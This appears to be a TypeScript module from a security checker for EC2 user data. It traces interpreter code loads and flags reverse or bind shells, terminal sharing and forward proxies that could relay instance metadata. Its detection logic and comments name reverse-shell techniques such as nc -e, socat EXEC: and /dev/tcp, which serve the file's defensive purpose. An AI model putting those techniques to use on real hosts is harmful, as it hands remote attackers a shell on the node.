/** The awk libraries (AWKPATH) and extensions (AWKLIBPATH) GNU awk ships (gawk's awklib and extension directories). */
const GAWK_KNOWN = {
    source: /^(assert|bits2str|cliff_rand|ctime|ftrans|getopt|gettime|group|have_mpfr|inplace|intdiv0|join|libintl|noassign|ns_passwd|ord|passwd|processarray|quicksort|readable|readfile|rewind|round|shellquote|strtonum|walkarray|zerofile)(\.awk)?$/,
    extension:
        /^(filefuncs|fnmatch|fork|inplace|intdiv|ordchr|readdir|readdir_test|readfile|revoutput|revtwoway|rwarray|time|testext)(\.so)?$/,
};
/** gawk's default AWKPATH and AWKLIBPATH (GNU awk manual; Amazon Linux's gawk ships its extensions in /usr/lib64/gawk). */
const GAWK_PATH = {
    source: [".", "/usr/local/share/awk", "/usr/share/awk"],
    extension: ["/usr/local/lib/gawk", "/usr/lib64/gawk", "/usr/lib/gawk"],
};
/**
 * A gawk library or extension: a name with `/` as itself, any other looked up in the search path, AWKPATH's (sources)
 * or AWKLIBPATH's (extensions) directories when set and not empty, a null entry the working directory, else the default
 * (GNU awk manual, "The AWKPATH Environment Variable", "The AWKLIBPATH Environment Variable"); a path the pack cannot
 * compute is unread. A library gawk ships is known only where the search path holds the default directories.
 */
function awkLoad(
    what: string,
    name: string,
    cwd: string,
    kind: "source" | "extension",
    environment: ReadonlyMap<string, string>,
): CodeLoad {
    if (literalPath(name) === undefined) return { what, paths: [] };
    const suffix = kind === "source" ? ".awk" : ".so";
    const variable = kind === "source" ? "AWKPATH" : "AWKLIBPATH";
    const given = environment.get(variable);
    if (!name.includes("/") && given !== undefined && literalPath(given) === undefined)
        return { what: `${variable}=${given} ${what}`, paths: [] };
    const search = given === undefined || given === "" ? GAWK_PATH[kind] : given.split(":").map(d => d || ".");
    const dirs = name.includes("/") ? [cwd] : search.map(d => posix.resolve(cwd, d));
    return {
        what: given === undefined || given === "" || name.includes("/") ? what : `${variable}=${given} ${what}`,
        paths: dirs.flatMap(d => [posix.resolve(d, name), posix.resolve(d, `${name}${suffix}`)]),
        known:
            !name.includes("/") &&
            GAWK_KNOWN[kind].test(name) &&
            GAWK_PATH[kind].some(d => d !== "." && dirs.includes(d)),
    };
}
/** The file an auto_prepend_file/auto_append_file value names (`none` or empty: none). */
function phpPrepends(what: string, value: string, cwd: string): CodeLoad[] {
    const file = value.trim().replace(/^(["'])([\s\S]*)\1$/, "$2");
    if (file === "" || /^none$/i.test(file)) return [];
    return [literalPath(file) === undefined ? { what, paths: [] } : { what, paths: [posix.resolve(cwd, file)] }];
}
/** auto_path's directories after TCLLIBPATH's on Amazon Linux (tcl_library /usr/share/tcl8.6, its parent, tcl_pkgPath). */
const TCL_AUTO_PATH = ["/usr/share/tcl8.6", "/usr/share", "/usr/lib64/tcl8.6", "/usr/lib64", "/usr/share/tcl8.5"];
/** Tcl's packages loaded by name (the Tcl/Tk core, tcllib, tls, Thread, sqlite3, Expect, tdom). */
const TCL_KNOWN_PACKAGES =
    /^(Tcl|Tk|http|tls|Thread|sqlite3|msgcat|tcltest|platform|opt|Expect|udp|base64|md5|sha1|sha256|uri|tdom|Itcl|cmdline|struct(::\w+)?|json(::write)?|csv|fileutil|logger|textutil(::\w+)?)$/;
/** A Tcl word as a path: none when substituted (`$`, `[...]`, a backslash). */
const tclPath = (word: string) => (/[[\\]/.test(word) ? undefined : literalPath(word));

/**
 * The argument a load or eval statement of program text gives (`rest` the text after its keyword): a quoted string, in
 * parentheses or not, is `literal` unless it interpolates (`interpolates`, in a double-quoted one), escapes, or is
 * joined to more text (`.`, `+`); anything else is computed (no `literal`). `text` is the argument as written.
 */
function codeArgument(rest: string, interpolates: RegExp): { text: string; literal?: string } {
    const m = /^(\(\s*)?(?:'([^'\\]*)'|"([^"\\]*)")/.exec(rest);
    const computed = !m || (m[3] !== undefined && interpolates.test(m[3])) || /^\s*[.+]/.test(rest.slice(m[0].length));
    return computed
        ? { text: (/^[^;\n]*/.exec(rest)?.[0] ?? "").trim().slice(0, 60) }
        : { text: m[0].replace(/^\(\s*/, ""), literal: m[2] ?? m[3] };
}
/** A file a load statement names: as itself when absolute or `./`/`../` (from the working directory), else on `dirs`. */
const fileOnPath = (file: string, cwd: string, dirs: readonly string[]) =>
    /^\.{0,2}\//.test(file) ? [posix.resolve(cwd, file)] : dirs.map(d => posix.resolve(cwd, d, file));

/** perl's -I and -Mlib= directories (perlrun: prepended to @INC). */
const perlIncDirs = (values: readonly [string, string][], cwd: string) =>
    [
        ...values.filter(([o]) => o === "-I").map(([, v]) => v),
        ...values.flatMap(([o, v]) => (/^-M-?lib=/.test(`${o}${v}`) ? v.replace(/^-?lib=/, "").split(",") : [])),
    ].map(d => posix.resolve(cwd, d));
/** A Perl module by name: Foo::Bar is Foo/Bar.pm on `dirs` (@INC); `known` false when the code changes @INC computably. */
function perlModule(what: string, module: string, dirs: readonly string[], known = true): CodeLoad {
    if (!/^\w+(::\w+)*$/.test(module)) return { what, paths: [] };
    const file = `${module.replaceAll("::", "/")}.pm`;
    return { what, paths: dirs.map(d => posix.join(d, file)), known: known && PERL_KNOWN_MODULES.test(module) };
}
/**
 * The loads of Perl code (perlfunc): `do EXPR` ("Uses the value of EXPR as a filename and executes the contents of the
 * file as a Perl script", a relative name but ./ and ../ searched in @INC), `require EXPR` (a file name, or a bareword
 * Foo::Bar as Foo/Bar.pm on @INC; `require VERSION` none), `use Module`/`no Module` (require at compile time; `use lib
 * LIST` prepends to @INC), `eval EXPR` (a string's code: a literal one is in the text, any other computed; `do BLOCK`
 * and `eval BLOCK` load nothing). A method (`$dbh->do(...)`) is not one.
 */
function perlLoads(text: string, cwd: string, values: readonly [string, string][]): CodeLoad[] {
    const interpolates = /[$@]/;
    // `use lib LIST`, `unshift`/`push @INC, LIST`: literal directories are searched first (`push`'s too, fail closed);
    // a computed one, or any other change of @INC, may shadow a module.
    let computedInc = /@INC\b|\$INC\s*\[/.test(text.replace(/\b(?:unshift|push)\s*\(?\s*@INC\s*,/g, ""));
    const incs = /(?:^|[;{}\n])\s*use\s+lib\b([^;]*)|\b(?:unshift|push)\s*\(?\s*@INC\s*,([^;}]*)/g;
    const libs = [...text.matchAll(incs)].flatMap(m => {
        const list = m[1] ?? m[2];
        const words = [...list.matchAll(/qw\s*[([{/]([^)\]}/]*)[)\]}/]|'([^'\\]*)'|"([^"\\$@]*)"/g)].flatMap(w =>
            w[1] !== undefined ? w[1].trim().split(/\s+/) : [w[2] ?? w[3]],
        );
        if (list.replace(/qw\s*[([{/][^)\]}/]*[)\]}/]|'[^'\\]*'|"[^"\\$@]*"|[\s,()]/g, "") !== "") computedInc = true;
        return words.filter(w => w !== "").map(w => posix.resolve(cwd, w));
    });
    const dirs = [...libs, ...perlIncDirs(values, cwd), ...PERL_INC];
    return [...text.matchAll(/(?<![\w$@%&:>]|->)(do|require|use|no|eval)\b(?!\s*=>)\s*/g)].flatMap((m): CodeLoad[] => {
        const keyword = m[1];
        const rest = text.slice(m.index + m[0].length);
        if (keyword === "use" || keyword === "no") {
            const module = /^\w+(?:::\w+)*/.exec(rest)?.[0];
            return !/(^|[;{}\n])\s*$/.test(text.slice(0, m.index)) ||
                !module ||
                /^v?\d/.test(module) ||
                module === "lib"
                ? []
                : [perlModule(`${keyword} ${module}`, module, dirs, !computedInc)];
        }
        if (/^\{/.test(rest) && keyword !== "require") return [];
        if (keyword === "require" && /^v?\d/.test(rest)) return [];
        const module = keyword === "require" ? /^\w+(?:::\w+)*(?![\w(:])/.exec(rest)?.[0] : undefined;
        if (module !== undefined) return [perlModule(`require ${module}`, module, dirs, !computedInc)];
        // `do NAME` of a bareword is a call of the removed `do SUBROUTINE`, no load.
        if (keyword === "do" && !/^[('"$]/.test(rest)) return [];
        const arg = codeArgument(rest, interpolates);
        const what = `${keyword} ${arg.text}`;
        if (keyword === "eval") return arg.literal === undefined ? [{ what, paths: [] }] : [];
        return arg.literal === undefined || literalPath(arg.literal) === undefined
            ? [{ what, paths: [] }]
            : [{ what, paths: fileOnPath(arg.literal, cwd, dirs) }];
    });
}
/** A Ruby library by name (require, ruby -r): `lib` is lib.rb on `dirs` ($LOAD_PATH), a path as itself. */
function rubyLibrary(what: string, name: string, cwd: string, dirs: readonly string[], known = true): CodeLoad {
    if (literalPath(name) === undefined) return { what, paths: [] };
    const file = /\.(rb|so)$/.test(name) ? name : `${name}.rb`;
    return { what, paths: fileOnPath(file, cwd, dirs), known: known && RUBY_KNOWN_LIBRARIES.test(name) };
}
/**
 * The loads of Ruby code (Kernel docs): `require`/`autoload` a library as -r does, `require_relative` a file beside
 * the program, `load` ("Loads and executes the Ruby program in the file filename": absolute or ./ ../ as itself, else
 * on $LOAD_PATH, then from the working directory), `eval`/`instance_eval`/`class_eval`/`module_eval` of a string (a
 * literal one is in the text; `File.read`/`IO.read` of a literal path is that file's code; any other computed).
 * `$LOAD_PATH`/`$:` additions are searched first; a computed one may shadow a library.
 */
function rubyLoads(text: string, cwd: string, values: readonly [string, string][]): CodeLoad[] {
    const interpolates = /#\{/;
    let computedPath = false;
    const added = [
        ...text.matchAll(/\$(?:LOAD_PATH|:)\s*(?:<<|\.\s*(?:unshift|push|prepend|append|insert|concat|replace)\b)\s*/g),
    ].flatMap(m => {
        const arg = codeArgument(text.slice(m.index + m[0].length), interpolates);
        if (arg.literal === undefined) computedPath = true;
        return arg.literal === undefined ? [] : [posix.resolve(cwd, arg.literal)];
    });
    const dirs = [
        ...added,
        ...values.filter(([o]) => o === "-I").map(([, v]) => posix.resolve(cwd, v)),
        ...RUBY_LOAD_PATH,
    ];
    const loads = [
        ...text.matchAll(/(?<![\w$@:.])(?:Kernel\s*\.\s*)?(require_relative|require|load|autoload)\b(?![?!:])\s*/g),
    ].map((m): CodeLoad => {
        const keyword = m[1];
        const rest = text.slice(m.index + m[0].length);
        const arg = codeArgument(
            keyword === "autoload" ? rest.replace(/^(\(\s*)?(?::\w+|'\w+'|"\w+")\s*,\s*/, "$1") : rest,
            interpolates,
        );
        const what = `${keyword} ${arg.text}`;
        if (arg.literal === undefined || literalPath(arg.literal) === undefined) return { what, paths: [] };
        return keyword === "load"
            ? { what, paths: [...fileOnPath(arg.literal, cwd, dirs), posix.resolve(cwd, arg.literal)] }
            : keyword === "require_relative"
              ? rubyLibrary(what, /^\.{0,2}\//.test(arg.literal) ? arg.literal : `./${arg.literal}`, cwd, dirs, false)
              : rubyLibrary(what, arg.literal, cwd, dirs, !computedPath);
    });
    const evals = [...text.matchAll(/(?<![\w$@:])(eval|instance_eval|class_eval|module_eval)\b(?![?!:])\s*/g)].flatMap(
        (m): CodeLoad[] => {
            const rest = text.slice(m.index + m[0].length);
            if (/^(\{|do\b|&)/.test(rest)) return [];
            const read = /^(\(\s*)?(?:File|IO)\s*\.\s*(?:read|binread)\s*/.exec(rest);
            const arg = codeArgument(read ? rest.slice(read[0].length) : rest, interpolates);
            const what = `${m[1]} ${read ? read[0].replace(/^\(\s*/, "").trim() : ""}${arg.text}`;
            if (!read) return arg.literal === undefined ? [{ what, paths: [] }] : [];
            return [{ what, paths: arg.literal === undefined ? [] : [posix.resolve(cwd, arg.literal)] }];
        },
    );
    return [...loads, ...evals];
}
/** PHP's include_path on Amazon Linux (php.ini: ".:/usr/share/pear:/usr/share/php"). */
const PHP_INCLUDE_PATH = [".", "/usr/share/pear", "/usr/share/php"];
/**
 * The loads of PHP code (PHP manual, `include`: "includes and evaluates the specified file", absolute or ./ ../ as
 * itself, else on include_path, then the calling script's directory and the working directory; `require`, `*_once`
 * the same), and `eval` of a string (a literal one is in the text; file_get_contents of a literal path is that file's
 * code; any other computed).
 */
function phpLoads(text: string, cwd: string): CodeLoad[] {
    const interpolates = /\$/;
    return [...text.matchAll(/(?<![\w$>:\\])(?:(include|require)(_once)?\b|eval\s*(?=\())\s*/g)].flatMap(
        (m): CodeLoad[] => {
            const rest = text.slice(m.index + m[0].length);
            if (m[1] === undefined) {
                const read = /^\(\s*file_get_contents\s*\(\s*/.exec(rest);
                const arg = codeArgument(read ? rest.slice(read[0].length) : rest, interpolates);
                const what = `eval${read ? "(file_get_contents(" : " "}${arg.text}`;
                if (!read) return arg.literal === undefined ? [{ what, paths: [] }] : [];
                return [{ what, paths: arg.literal === undefined ? [] : [posix.resolve(cwd, arg.literal)] }];
            }
            const arg = codeArgument(rest, interpolates);
            const what = `${m[1]}${m[2] ?? ""} ${arg.text}`;
            const file = arg.literal === undefined ? undefined : literalPath(arg.literal);
            return [
                {
                    what,
                    paths:
                        file === undefined
                            ? []
                            : [...new Set([...fileOnPath(file, cwd, PHP_INCLUDE_PATH), posix.resolve(cwd, file)])],
                },
            ];
        },
    );
}

/**
 * The code an interpreter loads besides its program (CODE_LOADERS): `texts` the files user data wrote that it loads
 * (followed through their own loads), `unread` what it loads that the pack cannot read. `values` are its options as
 * programOptions read them, `programs` its program texts, `environment` its loader variables (rootReads
 * loaderEnvironment).
 */
function loadedCode(
    name: string,
    values: readonly [string, string][],
    programs: readonly string[],
    cwd: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    environment: ReadonlyMap<string, string> = new Map(),
): { texts: string[]; unread: string[] } {
    const loader = CODE_LOADERS.find(l => l.names.test(name));
    const out = { texts: [] as string[], unread: [] as string[] };
    if (!loader) return out;
    const file = (path: string, within?: string) => readConfig(path, fileText, view, within);
    const seen = new Set<string>();
    const follow = (loads: readonly CodeLoad[], depth: number) => {
        for (const load of loads) {
            if (load.text !== undefined) {
                out.texts.push(load.text);
                if (depth < 8) follow(loader.code(load.text, cwd, values, environment), depth + 1);
                continue;
            }
            const found = load.paths.find(p => file(p) !== undefined);
            const text = found === undefined ? undefined : file(found);
            if (found === undefined) {
                if (!load.known)
                    out.unread.push(
                        load.unread !== undefined
                            ? `${load.what}, ${load.unread}`
                            : load.paths.length === 0
                              ? `${load.what}, a name the pack cannot compute`
                              : `${load.what}, code user data does not write`,
                    );
            } else if (text === null)
                out.unread.push(`${load.what} (${found}, changed in a way the pack cannot compute)`);
            else if (typeof text === "string" && !seen.has(found) && depth < 8) {
                seen.add(found);
                out.texts.push(text);
                follow(loader.code(text, cwd, values, environment), depth + 1);
            }
        }
    };
    follow(
        [
            ...loader.options(values, cwd, file, () => view.written?.() ?? [], environment),
            ...programs.flatMap(t => loader.code(t, cwd, values, environment)),
        ],
        0,
    );
    return out;
}

/**
 * Where a root command hands a shell on the node to another host (round 59: the class of a program that connects out
 * and hands the connection a shell, or a local end of it, to whoever holds the other end):
 * - a relay dialling out (dialledOutPeers: socat EXEC:/SYSTEM:/SHELL: joined to a connecting address, ncat/nc -e, -c,
 *   --sh-exec, --lua-exec in connect mode) whose program runs what the connection sends (runsClientCommands: a shell,
 *   an interpreter reading its input), or a script user data wrote that does; a Lua script or a script changed in a
 *   way the pack cannot compute, failing closed. A far end on this instance's loopback is a local client;
 * - a terminal-sharing program (SHELL_SHARERS);
 * - interpreter code (SOCKET_SHELL_CODE: an inline program, or the script user data wrote that it runs; Python's
 *   -c/-m/script through pythonEntry) that uses a socket and a shell, pty or subprocess: a reverse or bind shell, its
 *   host whatever the code names (fail closed: the pack does not evaluate the code). A script it cannot read (a
 *   download) is judged as any program the pack cannot read is.
 * A /dev/tcp connection a shell reads is lineRelays'.
 */
function shellsHandedOut(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): string[] {
    const name = posix.basename(words[0] ?? "");
    const args = words.slice(1);
    const line = words.join(" ");
    const out: string[] = [];
    for (const { far, program } of dialledOutPeers(name, args) ?? []) {
        if (program === undefined || loopbackOnly([far])) continue;
        const scripts = program === null ? { lines: [], unread: true } : scriptCommands([program], fileText, view);
        if (program === null || scripts.unread || [program, ...scripts.lines].some(l => runsClientCommands(l)))
            out.push(
                `${line} runs ${program ?? "a Lua script the pack does not read"} on its connection to ${far} (another host)`,
            );
    }
    const sharer = SHELL_SHARERS.find(
        t =>
            t.names.test(name) &&
            (t.commands === undefined || t.commands.test(args.find(w => !w.startsWith("-")) ?? "")) &&
            (t.options === undefined || args.some(w => t.options!.test(w))),
    );
    if (sharer && !args.some(w => SHARER_INFO.test(w)))
        out.push(`${line} shares the node's terminal with whoever holds ${sharer.far}`);
    // A terminal emulator on another host's X server (-display, --display, DISPLAY: rootReads environmentOptions): whoever
    // sits at that display types into its shell (X(7) "DISPLAY NAMES": `hostname:N`; `:N`, `unix:N` are local).
    if (X_TERMINALS.test(name)) {
        const display = args
            .flatMap((w, i) => {
                const glued = /^(-[^=]+)=(.*)$/.exec(w);
                return glued && xDisplayOption(name, glued[1])
                    ? [glued[2]]
                    : xDisplayOption(name, args[i - 1] ?? "")
                      ? [w]
                      : [];
            })
            .at(-1);
        const host = display === undefined ? "" : display.replace(/:\d+(\.\d+)?$/, "").replace(/^\[|\]$/g, "");
        if (host !== "" && host !== "unix" && !loopbackOnly([host]))
            out.push(`${line} opens a terminal on the X server at ${display} (another host)`);
    }
    // A versioned interpreter (perl5.36) is its program (shell.ts interpreterName).
    const interpreter = SOCKET_SHELL_CODE.find(t => t.names.test(interpreterName(name)));
    if (interpreter) {
        const python = /^python/.test(name) ? pythonEntry(args, cwd ?? "/", fileText, view) : undefined;
        // Its options read by its program's grammar where the pack has one (rootReads programOptions: getopt's
        // bundles, a value glued to its short option (`-e'code'` is `-e 'code'`: perlrun(1), ruby(1), php_getopt,
        // gawk's getopt_long), `--long=value`, unique prefixes); an option word it cannot read is judged as code too
        // (fail closed). Otherwise a code option's value is the next word or glued with `=` (`--eval=TEXT`).
        const read = programOptions(words);
        // The script file an option names (-f/--file: awk's program file, php's script; gawk's -E/--exec).
        const scriptFile = read?.values.find(
            ([o]) => /^(-f|--file|--exec)$/.test(o) || (o === "-E" && interpreter.operands),
        )?.[1];
        const programFile = read ? scriptFile !== undefined : args.some(w => /^(-f|--file)(=|$)/.test(w));
        const inline = read
            ? [
                  ...read.values.filter(([o]) => interpreter.code.test(o)).map(([, v]) => v),
                  ...(interpreter.operands && !programFile ? read.positional.map(p => p.word) : []),
              ]
            : args.flatMap((w, i) => {
                  const glued = /^(--[\w-]+)=([\s\S]*)$/.exec(w);
                  return glued && interpreter.code.test(glued[1])
                      ? [glued[2]]
                      : interpreter.code.test(args[i - 1] ?? "") ||
                          (interpreter.operands && !programFile && !w.startsWith("-"))
                        ? [w]
                        : [];
              });
        const script = read
            ? (scriptFile ?? read.positional[0]?.word)
            : args.find((w, i) => !w.startsWith("-") && !interpreter.code.test(args[i - 1] ?? ""));
        // lua(1) runs its -e chunks, then the script ("-e stat: execute string stat"; LUA_INIT's code is one: rootReads
        // environmentOptions).
        const scriptText =
            (inline.length === 0 || /^(lua|luajit)$/.test(interpreterName(name))) &&
            script !== undefined &&
            !/^python/.test(name)
                ? readConfig(posix.resolve(cwd ?? "/", script), fileText, view)
                : undefined;
        const programs = [
            ...(/^python/.test(name) ? [] : [...inline, ...(read?.unknown ?? [])]),
            ...(typeof scriptText === "string" ? [scriptText] : []),
        ];
        // What it loads besides (CODE_LOADERS): judged with its program, as one program.
        const loaded = /^python/.test(name)
            ? { texts: [], unread: [] }
            : loadedCode(
                  interpreterName(name),
                  read ? [...read.values, ...read.flags.map((f): [string, string] => [f, ""])] : [],
                  programs,
                  cwd ?? "/",
                  fileText,
                  view,
                  loaderEnvironment(words),
              );
        const texts = [
            ...(python && !("flask" in python) ? python.files.map(f => f.text) : []),
            ...programs,
            ...(scriptText === null ? [scriptText] : []),
            ...(loaded.texts.length === 0 ? [] : [[...programs, ...loaded.texts].join("\n")]),
        ];
        if (
            texts.some(
                t =>
                    typeof t === "string" &&
                    interpreter.socket.test(t) &&
                    (SHELL_IN_CODE.test(t) || interpreter.shell?.test(t)),
            )
        )
            out.push(
                `${line}: code that connects or accepts a socket and runs a shell, a pty or a subprocess (a reverse shell to the host it names, or a bind shell for whoever connects)`,
            );
        for (const what of loaded.unread)
            out.push(
                `${line} loads ${what}: code the pack cannot read, which may connect out and run a shell (a reverse shell)`,
            );
    }
    return out;
}

/**
 * Whether a proxy's upstream URL takes its host from the request: a variable, a regex capture or a server variable in
 * the authority (nginx ngx_http_proxy_module, proxy_pass: "Parameter value can contain variables"; httpd mod_rewrite's
 * %{HTTP_HOST} and $N, ProxyPassMatch's $N). Variables of the request's path after a literal host ($request_uri, $uri,
 * $args ...) choose no host.
 */
function hostFromRequest(url: string): boolean {
    const rest = url.replace(/^["']|["']$/g, "").replace(/^[^/]*:\/\//, "");
    const authority = rest
        .split("/")[0]
        .replace(/\$\{?(request_uri|uri|document_uri|is_args|args|query_string)\b.*$/, "");
    return /\$|%\{/.test(authority);
}

/** A configuration's lines without comments (`#`, `;`, `//`). */
const configLines = (text: string) => text.split(/\r?\n/).filter(l => !/^\s*(#|;|\/\/)/.test(l));
/** Every value a directive takes: nginx puts several directives on one line (`server { listen 3128; ... }`). */
const directiveValues = (lines: readonly string[], re: RegExp) =>
    lines.flatMap(l =>
        [...l.matchAll(new RegExp(re.source, re.flags.includes("g") ? re.flags : `${re.flags}g`))].map(m => m[1]),
    );
/**
 * Where each server a configuration sets up listens: nginx `listen`, Apache httpd's and tinyproxy's `Listen`, HAProxy
 * `bind`, Envoy's socket_address `address`, Privoxy `listen-address`, squid `http_port`/`https_port`.
 */
const LISTENS = {
    nginx: /(?:^|[{;])\s*listen\s+([^;\s}]+)/,
    httpd: /^\s*Listen\s+(\S+)/i,
    haproxy: /^\s*bind\s+(\S+)/,
    envoy: /^\s*["']?address["']?\s*:\s*["']?([0-9a-fA-F.:[\]*]+|localhost)["']?\s*,?\s*$/,
    privoxy: /^\s*listen-address\s+(\S+)/,
    squid: /^\s*https?_port\s+(\S+)/,
};
/**
 * Whether a configuration relaying instance metadata serves only the instance's own processes: each of its servers
 * listens on loopback (loopbackOnly); none named is the server's default, every address (nginx *:80, httpd Listen 80).
 */
function configListensLocally(text: string): boolean {
    const lines = configLines(text);
    return loopbackOnly(
        Object.values(LISTENS).flatMap(re => directiveValues(lines, re).flatMap(v => v.replace(/;$/, "").split(","))),
    );
}

/**
 * Forward proxies a configuration sets up (beyond squid's, judged with its link-local deny): a node process relaying
 * whatever host a client names, instance metadata included, one hop from IMDS, so the hop limit of 1 protects nothing
 * (AWS Security Blog, "Add defense in depth against open firewalls, reverse proxies, and SSRF vulnerabilities with
 * enhancements to the EC2 Instance Metadata Service": the hop limit is the IMDSv2 token response's IP TTL). A proxy
 * bound to loopback only (loopbackOnly) is accepted; a fixed upstream is not a forward proxy (one naming instance
 * metadata is refused as a relay where it is named).
 * - nginx: proxy_pass whose host comes from the request (hostFromRequest), in http{} or stream{} (`proxy_pass
 *   $upstream`); `listen` defaults to *:80 (nginx ngx_http_core_module, listen);
 * - Apache httpd: `ProxyRequests On` ("Forward Proxies and Reverse Proxies/Gateways": a forward proxy), a
 *   ProxyPass/ProxyPassMatch or a RewriteRule [P] whose host comes from the request; `Listen` (httpd.conf's default is
 *   Listen 80);
 * - HAProxy: `option http_proxy` (the server address taken from the request URI) or `http-request set-dst` from
 *   anything but a literal address (HAProxy configuration manual); `bind`;
 * - Envoy: the dynamic forward proxy filter or cluster (Envoy docs, "Dynamic forward proxy": upstream chosen by the
 *   Host header) or an original_dst cluster using the x-envoy-original-dst-host header; socket_address `address`;
 * - Privoxy (a forward proxy by design): `listen-address` (default 127.0.0.1:8118);
 * - tinyproxy: a forward proxy unless `ReverseOnly Yes`; `Listen` (default every address) and `Allow` (none: every
 *   client);
 * - Dante's sockd (sockd.conf(5)): a SOCKS proxy on each `internal:` address or interface, admitting the sources of
 *   its `client pass` rules (none: no client); commands' SOCKS proxies are SERVERS.
 */
function forwardProxies(text: string): string[] {
    const lines = configLines(text);
    const values = (re: RegExp) => directiveValues(lines, re);
    const reachable = (listens: string[]) => !loopbackOnly(listens);
    const out: string[] = [];
    const nginx = nginxServers(text)
        .filter(server => reachable(server.listens))
        .flatMap(server => server.passes)
        .find(hostFromRequest);
    if (nginx)
        out.push(
            `nginx proxies to the host a client names (proxy_pass ${nginx}) on an address beyond loopback: name the upstream literally or listen on 127.0.0.1 only`,
        );
    const httpdForward = lines.find(l => /^\s*ProxyRequests\s+On\b/i.test(l));
    const httpdVariable = httpdProxyTargets(lines).find(t => hostFromRequest(t.url))?.line;
    const httpd = httpdForward ?? httpdVariable;
    if (httpd && reachable(values(LISTENS.httpd)))
        out.push(
            `Apache httpd proxies to the host a client names (${httpd.trim()}) on an address beyond loopback: use ProxyPass to a literal upstream with ProxyRequests Off, or Listen on 127.0.0.1 only`,
        );
    const haproxy = lines.find(
        l =>
            /^\s*option\s+http_proxy\b/.test(l) ||
            /^\s*(http|tcp)-request\s+(connection\s+|content\s+|session\s+)?set-dst\s+(?!ipv[46]\()/.test(l),
    );
    if (haproxy && reachable(values(LISTENS.haproxy).flatMap(b => b.split(","))))
        out.push(
            `HAProxy connects to the address a client names (${haproxy.trim()}) on a bind beyond loopback: use servers with literal addresses or bind 127.0.0.1 only`,
        );
    const envoy = lines.find(l => /\bdynamic_forward_proxy\b/.test(l) || /\buse_http_header["']?\s*:\s*true\b/.test(l));
    if (envoy && reachable(values(LISTENS.envoy)))
        out.push(
            `Envoy forwards to the host a client names (${envoy.trim()}) on a listener beyond loopback: route to static clusters or listen on 127.0.0.1 only`,
        );
    const privoxy = values(LISTENS.privoxy);
    if (privoxy.length > 0 && reachable(privoxy))
        out.push(`Privoxy, a forward proxy, listens on ${privoxy.join(", ")}: keep listen-address 127.0.0.1:8118`);
    const tinyproxy =
        lines.some(l => /^\s*Port\s+\d+\s*$/.test(l)) &&
        lines.some(l =>
            /^\s*(Allow|ViaProxyName|DisableViaHeader|ConnectPort|ReversePath|XTinyproxy|StatFile|DefaultErrorFile)\s/.test(
                l,
            ),
        ) &&
        !lines.some(l => /^\s*ReverseOnly\s+Yes\b/i.test(l));
    const allowed = values(/^\s*Allow\s+(\S+)/);
    const listens = values(LISTENS.httpd);
    if (tinyproxy && reachable(listens) && (allowed.length === 0 || reachable(allowed)))
        out.push(
            `tinyproxy, a forward proxy, serves ${allowed.length === 0 ? "every client" : allowed.join(", ")} on ${listens.length === 0 ? "every address" : listens.join(", ")}: Allow 127.0.0.1 only or set ReverseOnly Yes`,
        );
    const internal = values(/^\s*internal\s*:\s*(\S+)/).map(interfaceAddress);
    const clients = [...lines.join("\n").matchAll(/\bclient\s+pass\s*\{([^}]*)\}/g)].flatMap(rule =>
        [...rule[1].matchAll(/\bfrom\s*:\s*(\S+)/g)].map(from => from[1]),
    );
    if (internal.length > 0 && clients.length > 0 && !localOnly(internal, clients))
        out.push(
            `Dante's sockd, a SOCKS proxy, serves ${clients.join(", ")} on ${internal.join(", ")}: set internal: 127.0.0.1 or pass clients from 127.0.0.0/8 only`,
        );
    return out;
}

/** Apache httpd's main configuration file (AL2023's httpd package). */
const HTTPD_CONF = "/etc/httpd/conf/httpd.conf";
/**
 * The configuration a web server's packaged main file includes (AL2023's and Fedora's packages), read by the server
 * whatever user data writes: nginx.conf's `include /etc/nginx/conf.d/*.conf;` (http block) and `include
 * /etc/nginx/default.d/*.conf;` (its default server), httpd.conf's `IncludeOptional conf.d/*.conf` and `Include
 * conf.modules.d/*.conf`, Fedora's Caddyfile `import Caddyfile.d/*.caddyfile`.
 */
const PACKAGED_INCLUDES: readonly [string, string][] = [
    ["nginx", "/etc/nginx/conf.d/*.conf"],
    ["nginx", "/etc/nginx/default.d/*.conf"],
    ["Apache httpd", "/etc/httpd/conf.d/*.conf"],
    ["Apache httpd", "/etc/httpd/conf.modules.d/*.conf"],
    ["Caddy", "/etc/caddy/Caddyfile.d/*.caddyfile"],
];
/**
 * The file an include of `target` (a path or a glob; undefined: a value the pack cannot compute) reads that user data
 * changed in a way the pack cannot compute (a download, a copy, an edit): for a glob, any such file under its literal
 * directory (a superset of its matches), or the directory itself; undefined when there is none. A file it wrote whole
 * is read as itself; one it never touched is the package's. `packaged`: a packaged configuration's own include,
 * counting only files its glob matches (a tree change above them, such as a command in `/`, is not its directory's).
 */
function includeUnknown(target: string | undefined, view: ScriptView, packaged = false): string | undefined {
    if (target === undefined) return "(a value the pack cannot compute)";
    const glob = /[*?[{]/.test(target);
    const literal = glob ? target.replace(/[*?[{].*$/s, "").replace(/\/[^/]*$/, "") || "/" : target;
    if (!packaged && view.changed.has(literal)) return literal;
    const files = [...(view.written?.() ?? [])].filter(p => p.startsWith(`${literal}/`) && view.changed.has(p));
    return glob ? files.find(p => !packaged || globRegExp(target).test(p)) : undefined;
}

/** A shell glob's matches (`*`, `?` within one path segment; `[...]` as written) as a regular expression. */
function globRegExp(glob: string): RegExp {
    return new RegExp(
        `^${glob
            .replace(/[.+^${}()|\\]/g, "\\$&")
            .replace(/\*/g, "[^/]*")
            .replace(/\?/g, "[^/]")}$`,
    );
}

/**
 * A Caddyfile's lines with each `import` of files user data wrote whole spliced in (Caddy docs "import": "Includes a
 * snippet or file, replacing this token with the contents"; a glob "imports all matching files"; a relative path from
 * the Caddyfile's directory, /etc/caddy here), nested imports alike; an import of a file the pack cannot read (one
 * changed so, `{args}` placeholders, a glob over such a file: includeUnknown) stays, as a site whose root is unknown.
 * A file user data never touched is none: Caddy refuses to start on a missing import.
 */
function caddyExpanded(lines: readonly string[], view: ScriptView, depth = 0): string[] {
    const snippets = new Set(lines.flatMap(l => /^\s*\(([^()\s]+)\)\s*\{?\s*$/.exec(l)?.[1] ?? []));
    return lines.flatMap(l => {
        const m = /^\s*import\s+(\S+)\s*$/.exec(l);
        if (m === null || depth > 4 || snippets.has(m[1]) || /[{}]/.test(m[1])) return [l];
        const target = posix.resolve("/etc/caddy", m[1].replace(/^["']|["']$/g, ""));
        if (includeUnknown(target, view) !== undefined) return [l];
